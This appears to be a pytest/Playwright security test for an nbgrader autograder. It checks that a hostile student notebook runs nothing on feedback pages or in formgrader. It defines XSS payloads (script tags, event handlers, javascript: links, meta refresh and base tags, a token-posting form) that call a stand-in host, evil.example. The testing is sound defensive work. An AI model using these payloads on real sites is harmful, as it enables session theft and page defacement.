"""A hostile submission in a real Chromium: on its feedback page and in formgrader nothing of it runs or loads."""

from __future__ import annotations

import os
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from browser import chromium_page, copy_course, find_chromium, running_lab
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateFeedback
from playwright.sync_api import Page
from students import hand_in, right_answers
from test_mend import HOSTILE

from autograder import demo, grade
from autograder.course import Course
from autograder.wiring.settings import configuration, course_directory

if not find_chromium() and "CI" not in os.environ:
    pytest.skip("Chromium is not installed (Debian: apt install chromium)", allow_module_level=True)
pytestmark = pytest.mark.browser

NAME = "01_softmax"
PWN = "window.pwned = 1; fetch('/logout'); fetch('https://evil.example/')"
HTML = f"""\
<script>{PWN}</script><img src=x onerror="{PWN}"><svg onload="{PWN}"></svg><iframe srcdoc="<script>{PWN}</script>">
</iframe><style>* {{ background: red !important }} .score {{ display: none }}</style>
<link rel=stylesheet href=https://evil.example/a.css>
<div style="position:fixed;inset:0;background:red;z-index:99999">full marks</div><base href=https://evil.example/>
<form action=https://evil.example/><input name=token autofocus onfocus="{PWN}"></form></div></div></div></main></body>
<meta http-equiv=refresh content="0;url=https://evil.example/"><img src=/logout><a href="javascript:{PWN}">marks</a>
<table onclick="{PWN}"><tr><td>kept</td></tr></table><!-- """
CODE = f"""\
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
html = {HTML!r}
display(HTML(html), Javascript({PWN!r}), Markdown(html), Latex(r"$\\href{{javascript:{PWN}}}{{x}}$"))
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='{PWN.replace("'", "")}'/>"}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}, "text/plain": html}}, raw=True)
display(HTML("<b>"), metadata={{"text/html": {{"isolated": True}}}})
print(html, "\\x1b[31;5m\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07")
raise ValueError(html)"""
PLOT = """\
import matplotlib.pyplot as plt
from IPython.display import HTML, Latex, display
plt.plot([0, 1], [1, 0])
plt.show()
display(HTML("<table><thead><tr><th>loss</th></tr></thead><tr><td>0.6931</td></tr></table>"))
display(Latex(r"$\\frac{1}{2}$"))"""
ANSWER = "The mean is not the largest when $a<b$ & $e^{800}$ overflows: `x < y`, as [the book](https://d2l.ai) says."


def hostile(edition: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """An edition in which everything that a student can fill in attacks who reads it."""
    demo.fill(edition, {"explain-shift": HTML, "softmax": f"def softmax(x):\n    raise ValueError({HTML!r})"})
    own = [new_markdown_cell(text.replace("alert(1)", PWN)) for text in HOSTILE]
    own += [new_markdown_cell(HTML), new_code_cell(CODE), new_raw_cell(HTML, metadata={"raw_mimetype": "text/html"})]
    pasted = new_markdown_cell("![a](attachment:a.svg)")
    pasted.attachments = {"a.svg": {"image/svg+xml": HTML}}
    for cell in [*own, pasted]:
        cell.metadata.update(tags=[f"'\"><script>{PWN}</script>"], alt=f"'\"><script>{PWN}</script>")
    edition.cells[2:2] = [*own, pasted]
    edition.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"a": f"</script><script>{PWN}</script>"}
    }
    edition.metadata["title"] = edition.metadata["language_info"]["pygments_lexer"] = HTML
    return edition


ODD = "=1+1 '\"><img src=x onerror=window.pwned=1>"


@pytest.fixture(scope="module")
def folder(built: Course, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course with a hostile and an honest submission, graded, with feedback."""
    folder = copy_course(tmp_path_factory.mktemp("readers") / "repository", built.root)
    course = Course(folder / "course")
    for student in ("honest", "mallory", ODD):
        edition = nbformat.read(course.student_edition(NAME), as_version=4)
        if student == "honest":
            demo.fill(edition, {**right_answers(), "explain-shift": ANSWER})
            edition.cells.insert(2, new_code_cell(PLOT))
        hand_in(course, student, hostile(edition) if student == "mallory" else edition)
    list(grade.grade(course, grade.plan(course, NAME), "strict", jobs=1))
    GenerateFeedback(coursedir=course_directory(course, NAME), config=configuration(course)).start()
    return folder


@pytest.fixture(scope="module")
def server(folder: Path) -> Iterator[str]:
    with running_lab(folder) as printed:
        yield printed


class Witness:
    """Opens pages and puts down what they did."""

    def __init__(self, page: Page) -> None:
        self.page, self.dialogs, self.requests = page, [], []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: self.requests.append(request.url))

    def open(self, address: str) -> Page:
        self.requests.clear()
        self.page.goto(address)
        self.page.wait_for_timeout(500)
        return self.page

    def saw_nothing_run(self) -> bool:
        return self.page.evaluate("window.pwned") is None and not self.dialogs


@pytest.fixture
def witness() -> Iterator[Witness]:
    with chromium_page(1280, 900) as page:
        yield Witness(page)


def formgrader_page(server: str, folder: Path, student: str, witness: Witness) -> Page:
    with Gradebook(f"sqlite:///{folder / 'course' / 'gradebook.db'}") as gradebook:
        submission = gradebook.find_submission_notebook(NAME, NAME, student).id
    parts = urllib.parse.urlsplit(server)
    witness.page.goto(f"{parts.scheme}://{parts.netloc}/formgrader?{parts.query}")  # which signs in
    return witness.open(f"{parts.scheme}://{parts.netloc}/formgrader/submissions/{submission}/")


def covers(page: Page, inside: str) -> list[str]:
    """Elements of a student's that are taken out of the flow of the page, or that may hold a page of their own."""
    script = """inside => [...document.querySelectorAll(inside + ' *')].filter(element =>
        ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(element).position) && !element.matches('.word')
        || element.matches('script, style, link, base, meta, iframe, object, embed, form, svg')
        || [...element.attributes].some(attribute => attribute.name.startsWith('on'))
        ).map(element => element.outerHTML.slice(0, 200))"""
    return page.evaluate(script, inside)


def test_nothing_of_a_hostile_submission_runs_on_its_feedback_page(folder, witness):
    path = Course(folder / "course").feedback("mallory", NAME)
    page = witness.open(path.as_uri())
    assert witness.saw_nothing_run()
    assert [url for url in witness.requests if not url.startswith("data:")] == [path.as_uri()]
    assert covers(page, "main") == []
    assert page.locator("script").count() == 0
    assert page.get_by_text("full marks").first.is_visible()  # as the text that it is
    assert page.locator("header .score").is_visible()
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background == "rgb(255, 255, 255)"
    for link in page.locator("main a[href]").all():
        assert link.get_attribute("href").startswith(("#", "http://", "https://"))


def test_nothing_of_a_hostile_submission_runs_in_formgrader(folder, server, witness):
    page = formgrader_page(server, folder, "mallory", witness)
    host = urllib.parse.urlsplit(server).netloc
    assert witness.saw_nothing_run()
    assert not [url for url in witness.requests if "evil" in url or "logout" in url]
    elsewhere = {urllib.parse.urlsplit(url).netloc for url in witness.requests if not url.startswith("data:")}
    assert elsewhere <= {host, "cdnjs.cloudflare.com"}  # nbgrader's own page asks for MathJax
    assert covers(page, "#notebook-container") == []
    page.locator("input.score").first.wait_for()
    assert page.locator("#notebook-container .panel-heading input.score").count() == page.locator("input.score").count()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"


def test_formgrader_still_takes_marks_beside_a_hostile_submission(folder, server, witness):
    page = formgrader_page(server, folder, "mallory", witness)
    box = page.locator("input#explain-shift")
    with page.expect_response(lambda answer: "/api/grade/" in answer.url and answer.request.method == "PUT"):
        box.fill("1")
        box.press("Tab")
    with Gradebook(f"sqlite:///{folder / 'course' / 'gradebook.db'}") as gradebook:
        assert gradebook.find_grade("explain-shift", NAME, NAME, "mallory").manual_score == 1


@pytest.mark.parametrize("reader", ["feedback", "formgrader"])
def test_plots_tables_and_formulas_of_an_honest_submission_are_seen(folder, server, witness, reader):
    if reader == "feedback":
        page = witness.open(Course(folder / "course").feedback("honest", NAME).as_uri())
    else:
        page = formgrader_page(server, folder, "honest", witness)
    picture = page.locator("img[src^='data:image/png']").first
    assert picture.evaluate("image => image.complete && image.naturalWidth > 100")
    assert picture.is_visible()
    assert page.get_by_role("cell", name="0.6931").is_visible()
    answer = page.get_by_text("The mean is not the largest when")
    assert [each.strip() for each in answer.locator("code").all_inner_texts()] == ["x < y"]
    assert [each.text_content() for each in answer.locator("math").all()] == ["a<b", "e800"]
    assert answer.locator("math").first.bounding_box()["width"] > 10
    assert answer.get_by_role("link", name="the book").get_attribute("href") == "https://d2l.ai"


def test_a_file_beside_an_autograded_notebook_runs_nothing_either(folder, server, witness):
    planted = Course(folder / "course").autograded("mallory", NAME).with_name("planted.html")
    planted.write_text(f"<script>{PWN}</script><p>planted</p>")
    page = formgrader_page(server, folder, "mallory", witness)
    witness.open(f"{page.url.rstrip('/')}/planted.html")
    assert page.get_by_text("planted").is_visible()
    assert witness.saw_nothing_run()


def test_a_students_id_is_a_text_wherever_it_is_shown(folder, server, witness):
    course = Course(folder / "course")
    page = witness.open(course.feedback(ODD, NAME).as_uri())
    assert page.locator(".kicker", has_text=ODD).is_visible()
    page = formgrader_page(server, folder, ODD, witness)
    assert page.locator(".breadcrumb .name-shown").first.text_content().strip() == ODD
    for listing in ("manage_submissions", "gradebook"):
        witness.open(f"{page.url.split('/formgrader')[0]}/formgrader/{listing}/{NAME}")
    assert witness.saw_nothing_run()


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_a_feedback_page_fits_a_screen_and_a_telephone(folder, width, scheme):
    with chromium_page(width, 844) as page:
        page.emulate_media(color_scheme=scheme)
        page.goto(Course(folder / "course").feedback("honest", NAME).as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        dark = page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
        assert dark == (scheme == "dark")
